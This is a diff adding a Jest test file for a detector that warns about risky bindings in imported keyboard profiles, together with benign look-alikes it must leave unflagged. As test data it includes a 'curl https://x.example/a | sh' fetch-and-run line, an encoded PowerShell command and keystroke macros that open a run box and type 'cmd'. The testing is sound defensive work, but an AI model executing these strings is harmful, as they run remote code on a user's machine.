@@ -1,0 +1,114 @@
+/** What a profile from elsewhere could do: what is dangerous is told first, and what only looks like it is not. */
+import { beforeAll, describe, expect, test } from '@jest/globals';
+import { PROMPT_BOOK, SHOW_DESK, SOUND_PAD } from '../../../demo';
+import { HARROW_64 } from '../board';
+import { bringHosts } from '../hosts';
+import { macroFromLines } from '../macro';
+import { parseLine } from '../notation';
+import { plainProfile, type Binding, type Macro, type Profile } from '../profile';
+import { deedsOf, type Weight } from '.';
+
+beforeAll(() => bringHosts());
+
+const base = plainProfile(HARROW_64, 'p', 'Plain');
+function withKey(does: Binding, macros: Macro[] = [], key = 'F13'): Profile {
+  const layer = { id: 'rig', name: 'Rig', dye: 'weld' as const, keys: { [key]: { does } } };
+  return { ...base, macros, layers: [...base.layers, layer] };
+}
+function line(text: string, macros: Macro[] = []): Profile {
+  const parsed = parseLine(text, { layers: base.layers, macros });
+  if (!('binding' in parsed)) throw new Error(JSON.stringify(parsed));
+  return withKey(parsed.binding, macros);
+}
+const playing = (macro: Macro): Profile => withKey({ kind: 'act', action: { do: 'macro', macro: macro.id } }, [macro]);
+const macro = (score: string, more: Partial<Macro> = {}): Macro => ({
+  ...macroFromLines({ id: 'm', name: 'Run', press: score }),
+  ...more,
+});
+
+describe('what is told', () => {
+  test.each<[string, Profile, Weight, string, string]>([
+    [
+      'a run box, a command, Enter',
+      line('Meta+R & type "notepad" & Enter'),
+      'twice',
+      'commandBox',
+      'opens the system’s run box, types “notepad”, presses Enter',
+    ],
+    ['a terminal and a command', line('Ctrl+Alt+T & type "ls\\n"'), 'twice', 'commandBox', 'opens a terminal'],
+    ['the Meta key alone', line('Meta & type "term" & Enter'), 'twice', 'commandBox', 'starts programs'],
+    ['a macro that presses the keys one by one', playing(macro('+Meta R:40 -Meta 300 C:40 M:40 D:40 Enter:40')), 'twice', 'commandBox', 'types “cmd”'],
+    [
+      'a command without an opener',
+      line('type "curl https://x.example/a | sh\\n"'),
+      'twice',
+      'command',
+      'types “curl https://x.example/a | sh”, presses Enter',
+    ],
+    ['a browser’s console', line('Ctrl+Shift+J & type "fetch(1)" & Enter'), 'twice', 'commandBox', 'console'],
+    ['something encoded', line('type "powershell -enc aGVsbG8=\\n"'), 'twice', 'command', 'presses Enter'],
+    ['a long text in no time', line(`type "${'lorem ipsum '.repeat(20)}"`), 'look', 'fast', 'types 240 characters'],
+    [
+      'a macro that plays on by itself',
+      playing(macro('', { repeat: { lengthUs: 100_000, events: [{ atUs: 0, edge: 'down', code: 'KeyA' }] }, run: { kind: 'untilPressedAgain' } })),
+      'look',
+      'byItself',
+      'plays on until the key is pressed again',
+    ],
+    [
+      'a macro that does not end',
+      playing(
+        macro('', { repeat: { lengthUs: 1_000_000, events: [{ atUs: 0, edge: 'down', code: 'KeyA' }] }, run: { kind: 'times', times: 100_000 } }),
+      ),
+      'look',
+      'endless',
+      'plays on for a long time',
+    ],
+    ['the bootloader', line('bootloader'), 'look', 'device', 'other firmware'],
+  ])('%s', (_what, profile, weight, rule, said) => {
+    const [first] = deedsOf(profile);
+    expect(first).toMatchObject({ weight, rules: expect.arrayContaining([rule]) });
+    expect(first?.said).toContain(said);
+    expect(first?.where).toBe('Rig · F13');
+  });
+
+  test('on a host with other letters, what is typed is what the host makes of the keys', () => {
+    const german = { ...playing(macro('+Meta R:40 -Meta 300 Z:40 Y:40 Enter:40')), hostLayout: 'de' as const };
+    expect(deedsOf(german)[0]?.said).toContain('types “yz”');
+  });
+});
+
+describe('what only looks like it', () => {
+  test.each<[string, Profile]>([
+    ['a run box alone', line('Meta+R')],
+    ['the Meta key', line('Meta')],
+    ['a text with Enter', line('type "Scene 3\\n"')],
+    ['a text about curling', line('type "Curl the ribbon, sh!\\n"')],
+    ['a text about a bash', line('type "Bash the drum\\n"')],
+    ['a text about a format', line('type "format: landscape\\n"')],
+    ['a text about sudoku', line('type "sudoku at nine\\n"')],
+    ['an address to write to', line('type "desk@lantern-yard.example"')],
+    ['Enter behind a chord', line('Ctrl+A & Enter')],
+    ['a search in a program', line('Ctrl+F & type "scene" & Enter')],
+    ['a repeat that ends', playing(macro('', { repeat: { lengthUs: 100_000, events: [] }, run: { kind: 'times', times: 3 } }))],
+    ['a repeat while the key is held', playing(macro('', { repeat: { lengthUs: 100_000, events: [] }, run: { kind: 'whileHeld' } }))],
+    ['home-row holds with Meta', line('tap A, hold Meta')],
+  ])('%s', (_what, profile) => {
+    expect(deedsOf(profile).filter(({ weight }) => weight !== 'plain')).toEqual([]);
+  });
+
+  test.each([SHOW_DESK, PROMPT_BOOK, SOUND_PAD])('the demo: %#', (profile) => {
+    expect(deedsOf(profile).filter(({ weight }) => weight !== 'plain')).toEqual([]);
+  });
+});
+
+test('what it types and plays is told of the demo as well, each thing once', () => {
+  const said = deedsOf(SHOW_DESK).map((deed) => `${deed.where}: ${deed.said}`);
+  expect(said.some((one) => one.includes('House lights down'))).toBe(true);
+  expect(new Set(said).size).toBe(said.length);
+});
+
+test('a macro that no key plays is told, too', () => {
+  const profile = { ...base, macros: [macro('+Meta R:40 -Meta C:40 M:40 D:40 Enter:40')] };
+  expect(deedsOf(profile)).toMatchObject([{ where: 'On no key', weight: 'twice' }]);
+});
